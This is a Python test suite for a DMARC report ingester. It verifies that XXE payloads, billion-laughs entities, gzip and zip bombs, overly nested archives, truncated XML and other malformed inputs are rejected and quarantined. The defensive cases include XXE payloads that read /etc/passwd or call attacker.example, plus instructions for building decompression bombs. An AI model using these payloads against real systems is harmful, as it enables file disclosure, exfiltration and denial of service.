"""Hostile input (issue requirement).

"No DTD, entities or network in XML; caps on decompressed size, ratio, member
count and nesting depth; each violation is a clear rejection naming the file
and the limit."

Every case goes through ``read_reports`` (the library) and a selection goes
through ``dmarcpilot ingest`` (the CLI, on SQLite and PostgreSQL), where the
originals must also be archived, listed in the quarantine and left alone by a
second run. Inputs come from tests/hostile_inputs.py.
"""

from __future__ import annotations

import functools
import gzip
import hashlib
import http.server
import io
import json
import re
import shutil
import struct
import subprocess
import sys
import threading
import tracemalloc
import urllib.request
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from dmarcpilot.cli.main import cli
from dmarcpilot.reports import Parsed, Rejection, read_reports
from dmarcpilot.reports.limits import DEFAULT_LIMITS, Limits
from dmarcpilot.reports.model import AggregateReport
from dmarcpilot.store.archive import read_blob
from dmarcpilot.store.db import create_engine
from tests.hostile_inputs import (
    GOOD_REPORT,
    GiB,
    MiB,
    billion_laughs,
    comment_before_doctype,
    deeply_nested,
    external_dtd,
    foreign_root,
    garbage,
    good_report,
    gzip_bomb,
    huge_attribute,
    huge_text,
    mail,
    many_gzip_members,
    mbox,
    nested_archives,
    nested_json,
    nested_multipart,
    nested_rfc822,
    noisy_chunk,
    not_tls_json,
    pad_prolog,
    report_mail,
    report_xml,
    truncated_after_record,
    truncated_gzip,
    truncated_report,
    wrapped_report,
    xxe,
    xxe_parameter_entity,
    zip_archive,
    zip_claiming_size,
    zip_encrypted_flag,
    zip_lying_small,
    zip_many_members,
    zip_member_file,
)

REPO = Path(__file__).resolve().parents[2]
Item = Parsed | Rejection


# -- helpers -----------------------------------------------------------------------------------

def _read(name: str, data: bytes, limits: Limits = DEFAULT_LIMITS) -> list[Item]:
    """read_reports on bytes; an exception (instead of a Rejection) fails the test clearly."""
    try:
        return list(read_reports(name, lambda: io.BytesIO(data), limits))
    except Exception as exc:  # the contract is "a Rejection per bad part", never an exception
        pytest.fail(f"read_reports({name!r}) raised {type(exc).__name__}: {str(exc)[:200]} "
                    f"instead of yielding a Rejection")


def _describe(items: list[Item]) -> list[str]:
    return [f"Parsed {i.path} ({len(getattr(i.report, 'records', ()))} records)" if isinstance(i, Parsed)
            else f"Rejection {i.path}: {i.reason}" for i in items]


def assert_rejected(items: list[Item], name: str, *patterns: str) -> list[Rejection]:
    """Nothing parsed; every rejection names the file; one reason matches every pattern."""
    parsed = [i for i in items if isinstance(i, Parsed)]
    rejections = [i for i in items if isinstance(i, Rejection)]
    assert parsed == [], f"hostile input was accepted: {_describe(items)}"
    assert rejections, "no Rejection at all"
    for rejection in rejections:
        assert name in rejection.path, f"rejection path {rejection.path!r} does not name {name!r}"
        assert rejection.reason.strip(), "empty reason"
    assert any(all(re.search(p, r.reason, re.IGNORECASE) for p in patterns) for r in rejections), (
        f"no reason matches {patterns}: {[r.reason for r in rejections]}"
    )
    return rejections


@functools.cache
def default_gzip_bomb() -> bytes:
    """About 1 GiB of spaces after <feedback>, about 1 MiB gzipped (ratio ~1000:1)."""
    return gzip_bomb(GiB + MiB)


# -- the generators are what they claim (else the tests below prove nothing) ---------------------------

def test_generators_build_what_they_claim() -> None:
    small = gzip_bomb(3 * MiB + 5)
    assert small[:2] == b"\x1f\x8b"
    assert gzip.decompress(small) == b"<feedback>" + b" " * (3 * MiB + 5 - 10)
    noisy = gzip_bomb(4 * MiB, chunk=noisy_chunk())
    assert 50 < len(gzip.decompress(noisy)) / len(noisy) < DEFAULT_LIMITS.max_ratio

    bomb = default_gzip_bomb()
    assert len(bomb) < 2 * MiB
    assert struct.unpack("<I", bomb[-4:])[0] == (GiB + MiB) % 2**32  # ISIZE: 1 GiB + 1 MiB

    claims = zip_claiming_size(2 * GiB)
    assert len(claims) < 4096
    info = zipfile.ZipFile(io.BytesIO(claims)).infolist()[0]
    assert info.file_size == 2 * GiB > DEFAULT_LIMITS.max_decompressed_bytes

    assert zipfile.ZipFile(io.BytesIO(zip_encrypted_flag())).infolist()[0].flag_bits & 0x1
    assert len(zipfile.ZipFile(io.BytesIO(zip_many_members(65))).infolist()) == 65

    data = nested_archives(b"<feedback/>", 3)  # gzip > zip > gzip
    inner = zipfile.ZipFile(io.BytesIO(gzip.decompress(data))).read("layer1.gz")
    assert gzip.decompress(inner) == b"<feedback/>"

    assert b"<!DOCTYPE" in xxe("file:///etc/passwd") and b"&xxe;" in xxe("file:///etc/passwd")
    assert billion_laughs().count(b"<!ENTITY") == 10
    assert deeply_nested().count(b"<n>") == 10_000
    assert truncated_report().count(b"</record>") == 4 and not truncated_report().rstrip().endswith(b">")
    assert garbage()[:1] == b"\x80"
    # the valid variants are accepted: the hostile part is what gets them rejected
    assert [type(i) for i in _read("ok.xml", report_xml())] == [Parsed]
    assert [type(i) for i in _read("ok.xml.gz", gzip.compress(report_xml()))] == [Parsed]
    assert [type(i) for i in _read("ok.eml", report_mail(report_xml()))] == [Parsed]


# -- one case per kind of hostile input ----------------------------------------------------------------

SMALL_CAP = Limits(max_decompressed_bytes=1 * MiB)


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], bytes]
    expect: tuple[str, ...]  # regular expressions, all must match one reason
    limits: Limits = DEFAULT_LIMITS


CASES = [
    # XML: no DTD, no entities, no network
    Case("xxe-file.xml", lambda: xxe("file:///etc/passwd"), ("DOCTYPE",)),
    Case("xxe-http.xml", lambda: xxe("http://attacker.example/collect?d=1"), ("DOCTYPE",)),
    Case("xxe-parameter-entity.xml", lambda: xxe_parameter_entity("http://attacker.example/evil.dtd"),
         ("DOCTYPE",)),
    Case("external-dtd.xml", lambda: external_dtd("http://attacker.example/feedback.dtd"), ("DOCTYPE",)),
    Case("billion-laughs.xml", billion_laughs, ("DOCTYPE|ENTITY",)),
    # zip bombs
    Case("zip-bomb.zip", lambda: zip_archive([("bomb.xml", b"<feedback>" + b" " * (16 * MiB))]),
         (r"\b1048576\b", "limit"), SMALL_CAP),
    Case("zip-ratio-bomb.zip", lambda: zip_archive([("bomb.xml", b"<feedback>" + b" " * (16 * MiB))]),
         ("ratio", "50:1"), Limits(max_ratio=50, ratio_grace_bytes=64 * 1024)),
    Case("zip-claims-2gib.zip", lambda: zip_claiming_size(2 * GiB),
         (r"\b2147483648\b", r"\b1073741824\b", "limit")),
    Case("zip-lies-small.zip", lambda: zip_lying_small(b"<feedback>" + b" " * (16 * MiB), claimed=1000),
         ("corrupt|CRC|limit",), SMALL_CAP),
    # gzip bombs
    Case("gzip-ratio-bomb.xml.gz", lambda: gzip_bomb(16 * MiB),
         ("ratio", "50:1"), Limits(max_ratio=50, ratio_grace_bytes=64 * 1024)),
    Case("gzip-size-bomb.xml.gz", lambda: gzip_bomb(16 * MiB, chunk=noisy_chunk()),  # ratio ~120:1 < 200:1
         (r"\b2097152\b", "limit"), Limits(max_decompressed_bytes=2 * MiB)),
    Case("gzip-bomb-default-limits.xml.gz", default_gzip_bomb, ("ratio", "200:1")),
    # nesting of envelopes
    Case("nested-6.zip", lambda: nested_archives(report_xml("nested"), 6), ("nesting", r"\b5\b")),
    Case("nested-3.xml.gz", lambda: nested_archives(report_xml("nested"), 3), ("nesting", r"\b2\b"),
         Limits(max_nesting=2)),
    # truncation
    Case("truncated.xml.gz", lambda: truncated_gzip(report_xml("trunc-gz")), ("truncated",)),
    Case("truncated-mid-record.xml", truncated_report, ("truncated",)),
    Case("truncated-after-record.xml", truncated_after_record, ("truncated",)),
    # not reports at all
    Case("plain.eml", lambda: mail("Lunch on Monday?"), ("mail without a report", "Lunch on Monday")),
    Case("empty.xml", lambda: b"", ("empty",)),
    Case("whitespace.xml", lambda: b" \n\t\r\n   \n\n", ("empty",)),
    Case("garbage.bin", garbage, ("not a report",)),
    Case("foreign-root.xml", foreign_root, ("<html>", "feedback")),
    Case("not-tls.json", not_tls_json, ("TLS report",)),
    # zip structure
    Case("many-members.zip", lambda: zip_many_members(65), (r"\b65\b", r"\b64\b", "members")),
    Case("five-members.zip", lambda: zip_many_members(5), (r"\b5 members", r"\b4\b"), Limits(max_zip_members=4)),
    Case("encrypted.zip", zip_encrypted_flag, ("encrypted",)),
    # structure caps inside XML, JSON and MIME
    Case("deep-10k.xml", lambda: deeply_nested(10_000, inside_report=False), ("depth",)),
    Case("deep-10k-in-report.xml", lambda: deeply_nested(10_000, inside_report=True), ("depth",)),
    Case("huge-text-node.xml", huge_text, ("limit",)),
    Case("huge-attribute.xml", huge_attribute, ("limit",)),
    Case("deep-10k.json", lambda: nested_json(10_000), ("depth|nest|deep",)),
    Case("deep-multipart.eml", lambda: nested_multipart(3000), ("depth|nest|deep",)),
    Case("deep-rfc822.eml", lambda: nested_rfc822(3000), ("depth|nest|deep",)),
    # bad values
    Case("bad-source-ip.xml", lambda: report_xml("bad-ip", ("192.0.2.1", "999.1.2.3")),
         ("source_ip", r"999\.1\.2\.3")),
]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_hostile_input_is_rejected_naming_file_and_problem(case: Case) -> None:
    assert_rejected(_read(case.name, case.build(), case.limits), case.name, *case.expect)


def test_nesting_limit_is_exact() -> None:
    """max_nesting envelopes are fine, one more is rejected (the cap is neither off by one nor absent)."""
    report = report_xml("nesting-edge")
    for limit in (2, 5):
        limits = Limits(max_nesting=limit)
        assert [type(i) for i in _read("edge.bin", nested_archives(report, limit), limits)] == [Parsed]
        assert_rejected(_read("edge.bin", nested_archives(report, limit + 1), limits), "edge.bin",
                        "nesting", rf"\b{limit}\b")


def test_zip_member_count_limit_is_exact() -> None:
    member = report_xml("members")
    at_cap = zip_archive([(f"r{i}.xml", member) for i in range(4)])
    items = _read("four.zip", at_cap, Limits(max_zip_members=4))
    assert [type(i) for i in items] == [Parsed] * 4
    assert all("four.zip > r" in i.path for i in items)


def test_many_gzip_members_do_not_crash() -> None:
    """RFC 1952 allows any number of members; 5000 empty ones (100 KB) must not blow the stack."""
    items = _read("members.xml.gz", many_gzip_members(5000, report_xml("many-members")))
    assert len(items) == 1, _describe(items)
    item = items[0]
    assert "members.xml.gz" in item.path
    if isinstance(item, Rejection):  # a member cap would be fine too, if it says so
        assert re.search("limit|members", item.reason), item.reason
    else:
        assert len(item.report.records) == 3


# -- DOCTYPE anywhere in the prolog, and what XXE could reach ------------------------------------------

PLACEMENTS: dict[str, Callable[[bytes], bytes]] = {
    "plain": lambda xml: xml,
    "comment-mentioning-feedback-before-doctype": comment_before_doctype,
    "doctype-after-70k-comment": pad_prolog,
}
DTD_KINDS: dict[str, Callable[[], bytes]] = {
    "xxe-file": lambda: xxe("file:///etc/passwd"),
    "xxe-http": lambda: xxe("http://attacker.example/collect"),
    "billion-laughs": billion_laughs,
}


@pytest.mark.parametrize("kind", DTD_KINDS)
@pytest.mark.parametrize("placement", PLACEMENTS)
def test_doctype_is_refused_wherever_it_is_in_the_prolog(placement: str, kind: str) -> None:
    name = f"{kind}-{placement}.xml"
    data = PLACEMENTS[placement](DTD_KINDS[kind]())
    assert_rejected(_read(name, data), name, "DOCTYPE|ENTITY|entit")


@pytest.mark.parametrize("placement", PLACEMENTS)
def test_xxe_never_discloses_a_local_file(tmp_path: Path, placement: str) -> None:
    secret = tmp_path / "secret.txt"
    marker = "S3CRET-c0ffee-not-for-reports"
    secret.write_text(marker)
    data = PLACEMENTS[placement](xxe(secret.as_uri()))
    items = _read("xxe.xml", data)
    shown = repr(items) + "".join(json.dumps(i.report.to_dict(), default=str) for i in items
                                  if isinstance(i, Parsed))
    assert marker not in shown
    assert "c0ffee" not in shown


class _Trap(http.server.BaseHTTPRequestHandler):
    hits: list[str]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        body = b'<!ENTITY leak "TRAPPED">' if self.path.endswith(".dtd") else b"TRAPPED"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def http_trap() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on loopback that records every request made to it."""
    hits: list[str] = []
    handler = type("Trap", (_Trap,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("placement", PLACEMENTS)
def test_xml_never_fetches_entities_or_dtds(http_trap: tuple[str, list[str]], placement: str) -> None:
    base, hits = http_trap
    inputs = {
        "entity.xml": xxe(f"{base}/entity"),
        "parameter-entity.xml": xxe_parameter_entity(f"{base}/param.dtd"),
        "external-dtd.xml": external_dtd(f"{base}/external.dtd"),
    }
    for name, data in inputs.items():
        items = _read(name, PLACEMENTS[placement](data))
        assert "TRAPPED" not in repr(items)
    assert hits == []
    # the trap works: a real request is seen (so an empty list above means no request was made)
    direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # ignore any *_proxy variable
    with direct.open(f"{base}/probe", timeout=5) as response:
        assert response.read() == b"TRAPPED"
    assert hits == ["/probe"]


# -- truncated XML: never stored, and said to be truncated ----------------------------------------------

@functools.cache
def _truncation_sweep() -> tuple[list[int], list[tuple[int, str]], int]:
    """Cut a two-record report at every byte between <feedback> and </feedback>."""
    xml = report_xml("cut", ("192.0.2.1", "192.0.2.2"))
    start = xml.index(b"<feedback>") + len(b"<feedback>")
    end = xml.rindex(b"</feedback>")
    accepted: list[int] = []
    unclear: list[tuple[int, str]] = []
    for cut in range(start, end):
        items = list(read_reports("cut.xml", lambda cut=cut: io.BytesIO(xml[:cut])))
        if any(isinstance(i, Parsed) for i in items):
            accepted.append(cut)
        elif not any("truncated" in i.reason for i in items if isinstance(i, Rejection)):
            unclear.append((cut, "; ".join(i.reason for i in items if isinstance(i, Rejection))))
    return accepted, unclear, end - start


def test_truncated_xml_is_never_accepted_at_any_cut_point() -> None:
    accepted, _, total = _truncation_sweep()
    assert accepted == [], f"{len(accepted)} of {total} truncated documents were parsed as reports"


def test_truncated_xml_is_always_called_truncated() -> None:
    _, unclear, total = _truncation_sweep()
    assert unclear == [], (f"{len(unclear)} of {total} cut points rejected with a reason that does not say "
                           f"'truncated', e.g. {unclear[:3]} ... {unclear[-3:]}")


# -- mbox: the good mail is used, the garbage one rejected -------------------------------------------

def test_mbox_with_one_good_and_one_garbage_mail() -> None:
    box = mbox(
        report_mail(report_xml("from-mbox")),
        mail("Re: your invoice", attachments=[("invoice.pdf", "application/octet-stream", garbage(2048, 7))]),
    )
    items = _read("inbox.mbox", box)
    parsed = [i for i in items if isinstance(i, Parsed)]
    rejected = [i for i in items if isinstance(i, Rejection)]
    assert len(parsed) == 1 and parsed[0].report.header.report_id == "from-mbox"
    assert "inbox.mbox > message 1" in parsed[0].path
    assert len(rejected) == 1, _describe(items)
    # an attachment that is no report (a PDF) is not read; the mail itself is rejected
    assert rejected[0].path == "inbox.mbox > message 2"
    assert rejected[0].reason == "mail without a report (subject: 'Re: your invoice')"


# -- memory: caps are enforced while streaming, not after allocating -----------------------------------

def _peak_traced(run: Callable[[], Any]) -> tuple[Any, int]:
    tracemalloc.start()
    try:
        result = run()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_gzip_bomb_with_default_limits_does_not_allocate_its_size() -> None:
    bomb = default_gzip_bomb()  # built before tracing: ~1 MiB holding 1 GiB + 1 MiB
    items, peak = _peak_traced(lambda: _read("bomb.xml.gz", bomb))
    assert_rejected(items, "bomb.xml.gz", "ratio|limit")
    assert peak < 32 * MiB, f"peak {peak / MiB:.0f} MiB while reading a {len(bomb)} byte bomb"


_CHILD = r"""
import io, json, resource, sys
sys.path.insert(0, sys.argv[1])
from tests.hostile_inputs import GiB, MiB, gzip_bomb, noisy_chunk
from dmarcpilot.reports import read_reports
from dmarcpilot.reports.limits import Limits
if sys.argv[2] == "default":
    limits, bomb = Limits(), gzip_bomb(GiB + MiB)
else:  # ratio ~120:1 stays under the ratio cap: the absolute cap must stop it, after 256 MiB
    limits, bomb = Limits(max_decompressed_bytes=256 * MiB), gzip_bomb(GiB, chunk=noisy_chunk())
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
items = list(read_reports("bomb.xml.gz", lambda: io.BytesIO(bomb), limits))
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"grew_kib": after - before, "reasons": [getattr(i, "reason", None) for i in items]}))
"""


@pytest.mark.parametrize("scenario", ["default", "absolute-cap"])
def test_gzip_bomb_peak_rss_stays_flat(scenario: str) -> None:
    """Resident memory (C allocations by zlib and libxml2 included) while a bomb is refused."""
    proc = subprocess.run([sys.executable, "-c", _CHILD, str(REPO), scenario],
                          capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 0, proc.stderr[-2000:]
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    assert result["reasons"] and all(r and re.search("limit|ratio", r) for r in result["reasons"]), result
    assert result["grew_kib"] < 100 * 1024, f"peak RSS grew by {result['grew_kib'] // 1024} MiB"


def test_mbox_line_cannot_exceed_the_mime_cap_in_memory(tmp_path: Path) -> None:
    """max_mime_bytes bounds what one mbox message may hold in memory, even on one endless line."""
    path = tmp_path / "one-line.mbox"
    with path.open("wb") as out:
        out.write(b"From MAILER-DAEMON Mon Jan  1 00:00:00 2024\n")
        for _ in range(64):
            out.write(b"a" * MiB)  # 64 MiB, no newline
    limits = Limits(max_mime_bytes=1 * MiB)
    items, peak = _peak_traced(lambda: list(read_reports(path.name, lambda: path.open("rb"), limits)))
    assert_rejected(items, path.name, r"\b1048576\b", "limit")
    assert peak < 16 * MiB, f"peak {peak / MiB:.0f} MiB for a message capped at 1 MiB"


_LONG_LINE_CHILD = r"""
import io, sys
sys.path.insert(0, sys.argv[1])
from dmarcpilot.reports import read_reports
data = b"From MAILER-DAEMON Mon Jan  1 00:00:00 2024\n" + b"a" * (32 * 1024 * 1024)
items = list(read_reports("line.mbox", lambda: io.BytesIO(data)))
print(type(items[0]).__name__)
"""


def test_mbox_long_line_under_the_cap_is_read_in_linear_time() -> None:
    """One 32 MiB line (under the default 64 MiB cap; ~200 KB gzipped at 120:1) must not take quadratic time.

    Linear reading takes well under a second here; in a child process so a
    regression costs the suite 5 s, not the minutes a 64 MiB line would.
    """
    try:
        proc = subprocess.run([sys.executable, "-c", _LONG_LINE_CHILD, str(REPO)],
                              capture_output=True, text=True, timeout=5, check=False)
    except subprocess.TimeoutExpired:
        pytest.fail("reading a 32 MiB mbox line took more than 5 s (quadratic line splitting?)")
    assert proc.returncode == 0, proc.stderr[-2000:]


def test_zip_member_is_not_held_in_memory(tmp_path: Path) -> None:
    """A zip member under the caps is streamed like a gzip payload, not read whole into memory."""
    path = tmp_path / "big-member.zip"
    zip_member_file(path, "report.xml", noisy_chunk(), 96)  # 96 MiB at ~120:1, under every cap below
    assert path.stat().st_size < 2 * MiB
    limits = Limits(max_decompressed_bytes=128 * MiB)
    items, peak = _peak_traced(lambda: list(read_reports(path.name, lambda: path.open("rb"), limits)))
    assert items and all(path.name in i.path for i in items)
    # half the member: leaves room for a bounded spool (32 MiB in memory), not for the member itself
    assert peak < 48 * MiB, f"peak {peak / MiB:.0f} MiB for a 96 MiB zip member"


# -- end to end through the CLI: rejected, archived, quarantined, idempotent ----------------------------

GOOD_NAME = GOOD_REPORT.name


def _cli_hostile_files() -> dict[str, bytes]:
    """Hostile files the CLI must reject with the default limits (one file per kind)."""
    return {
        "xxe-file.xml": xxe("file:///etc/passwd"),
        "xxe-http.xml": xxe("http://attacker.example/collect"),
        "billion-laughs.xml": billion_laughs(),
        "bomb.xml.gz": gzip_bomb(64 * MiB),
        "claims-2gib.zip": zip_claiming_size(2 * GiB),
        "nested.zip": nested_archives(report_xml("cli-nested"), 6),
        "many-members.zip": zip_many_members(65),
        "encrypted.zip": zip_encrypted_flag(),
        "truncated.xml.gz": truncated_gzip(report_xml("cli-trunc-gz")),
        "truncated.xml": truncated_report(),
        "plain.eml": mail("Lunch on Monday?"),
        "empty.xml": b"",
        "whitespace.xml": b"  \n\t\n",
        "garbage.bin": garbage(),
        "not-tls.json": not_tls_json(),
        "foreign-root.xml": foreign_root(),
        "bad-source-ip.xml": report_xml("cli-bad-ip", ("192.0.2.1", "999.1.2.3")),
    }


def _invoke(db: str, *args: str) -> tuple[int, Any]:
    result = CliRunner().invoke(cli, ["--db", db, *args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result.exit_code, json.loads(result.stdout)


def test_cli_rejects_hostile_files_keeps_originals_and_is_idempotent(
        db_url: str, engine: sa.Engine, tmp_path: Path) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copy(GOOD_REPORT, inbox / GOOD_NAME)
    hostile = _cli_hostile_files()
    for name, data in hostile.items():
        (inbox / name).write_bytes(data)

    code, summary = _invoke(db_url, "ingest", "--format", "json", str(inbox))
    assert code == 3, summary
    assert summary["inputs"] == len(hostile) + 1
    assert summary["reports_ingested"] == 1
    assert summary["by_type"]["aggregate"] == 1
    assert summary["records"] == 1  # the good report's one record, nothing from a hostile file
    for name in hostile:
        path = str(inbox / name)
        mine = [r for r in summary["rejected"] if r["path"] == path or r["path"].startswith(path + " > ")]
        assert mine, f"{name} not listed in rejected"
        assert all(r["reason"].strip() and not r["earlier"] for r in mine)
        # the CLI says exactly what the library says about the same bytes
        expected = [(i.path, i.reason) for i in read_reports(path, lambda f=inbox / name: f.open("rb"))
                    if isinstance(i, Rejection)]
        assert [(r["path"], r["reason"]) for r in mine] == expected, name
    assert not any(GOOD_NAME in r["path"] for r in summary["rejected"])

    code, reports = _invoke(db_url, "reports", "--format", "json")
    assert code == 0
    assert [(r["org_name"], r["report_id"]) for r in reports] == [("example.net",
                                                                   "b043f0e264cf4ea995e93765242f6dfb")]

    code, quarantined = _invoke(db_url, "quarantine", "--format", "json")
    assert code == 0
    assert len(quarantined) == len(summary["rejected"])
    for name, data in hostile.items():
        rows = [q for q in quarantined if q["origin"] == str(inbox / name)]
        assert rows, f"{name} not in the quarantine"
        assert {q["sha256"] for q in rows} == {hashlib.sha256(data).hexdigest()}
        assert all(str(inbox / name) in q["part"] and q["reason"] for q in rows)
        assert read_blob(engine, rows[0]["sha256"]) == data, f"archive does not hold the bytes of {name}"

    # the same directory again: nothing new, nothing lost, the rejections are still reported
    code, again = _invoke(db_url, "ingest", "--format", "json", str(inbox))
    assert code == 3
    assert again["reports_ingested"] == 0
    assert again["reports_duplicate"] == 1
    assert again["inputs_duplicate"] == len(hostile) + 1
    assert all(r["earlier"] for r in again["rejected"])
    assert len(again["rejected"]) == len(summary["rejected"])
    for first in summary["rejected"]:
        origin = first["path"].split(" > ", 1)[0]
        assert any(r["path"] == origin and first["reason"] in r["reason"] and first["path"] in r["reason"]
                   for r in again["rejected"]), first
    _, quarantined_again = _invoke(db_url, "quarantine", "--format", "json")
    assert len(quarantined_again) == len(quarantined)
    _, reports_again = _invoke(db_url, "reports", "--format", "json")
    assert len(reports_again) == 1


def test_cli_mbox_keeps_the_good_mail_and_quarantines_the_garbage(sqlite_url: str, tmp_path: Path) -> None:
    box = mbox(
        report_mail(good_report()),
        mail("Re: your invoice", attachments=[("invoice.pdf", "application/octet-stream", garbage(2048, 7))]),
    )
    path = tmp_path / "inbox.mbox"
    path.write_bytes(box)
    code, summary = _invoke(sqlite_url, "ingest", "--format", "json", str(path))
    assert code == 3
    assert summary["reports_ingested"] == 1 and summary["records"] == 1
    assert [r["path"] for r in summary["rejected"]] == [f"{path} > message 2"]
    _, quarantined = _invoke(sqlite_url, "quarantine", "--format", "json")
    assert [(q["origin"], q["part"]) for q in quarantined] == [(str(path), f"{path} > message 2")]
    engine = create_engine(sqlite_url)
    try:
        assert read_blob(engine, quarantined[0]["sha256"]) == box
    finally:
        engine.dispose()


@pytest.mark.parametrize("name,data", [
    ("truncated-mid-record.xml", truncated_report(records=40)),
    ("truncated-after-record.xml", truncated_after_record(records=40)),
    ("deep-in-report.xml", deeply_nested(10_000, inside_report=True)),
], ids=["mid-record", "after-record", "deep-nesting"])
def test_cli_never_half_stores_a_broken_report(sqlite_url: str, tmp_path: Path, name: str, data: bytes) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    code, summary = _invoke(sqlite_url, "ingest", "--format", "json", str(path))
    _, reports = _invoke(sqlite_url, "reports", "--format", "json")
    assert (code, summary["reports_ingested"], summary["records"], reports) == (3, 0, 0, [])
    assert [r["path"] for r in summary["rejected"]] == [str(path)]


def test_report_wrapped_in_a_foreign_element_is_read_and_flagged() -> None:
    """ikea.com wraps its reports in an unclosed <xs:schema>: the first <feedback> is
    the report; the wrapper is noted in the report's errors, never silently ignored."""
    items = list(read_reports("wrapped-in-html.xml", lambda: io.BytesIO(wrapped_report())))
    parsed = [i for i in items if isinstance(i, Parsed)]
    assert len(parsed) == 1 and len(items) == 1
    report = parsed[0].report
    assert isinstance(report, AggregateReport)
    assert len(report.records) == 3
    assert "<feedback> found inside <html>, not at the root" in report.errors
